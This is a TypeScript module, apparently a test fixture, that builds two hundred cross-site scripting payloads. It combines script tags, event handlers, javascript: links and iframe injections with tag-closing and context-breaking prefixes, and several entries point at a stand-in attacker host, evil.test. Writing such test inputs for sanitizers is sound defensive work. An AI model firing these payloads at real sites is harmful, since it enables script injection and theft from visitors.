/** What a page must show and never do: each calls `pwn`, or asks another server for something. */
const deeds: readonly string[] = [
  '<script>pwn()</script>',
  '<img src=x onerror=pwn()>',
  '<svg/onload=pwn()>',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  '<a href="javascript:pwn()">x</a>',
  '<details open ontoggle=pwn()>',
  '<input autofocus onfocus=pwn()>',
  "<style>@import 'http://evil.test/'</style>",
  '<base href="http://evil.test/">',
  '<form action="http://evil.test/"><button autofocus>',
]

/** What would close, or open, whatever a name stands in. */
const ways: readonly string[] = [
  '',
  '">',
  "'>",
  '`>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '<!--',
  '<svg><style>',
  '<math><mtext>',
  '<noscript><p title="</noscript>',
  '<template>',
  '{{constructor}}',
  '${alert}',
  'javascript:',
  '&lt;b&gt;',
  '\u202e\u2028',
]

/** Two hundred names that somebody hostile would choose. */
export const payloads: readonly string[] = ways.flatMap((way) => deeds.map((deed) => way + deed))
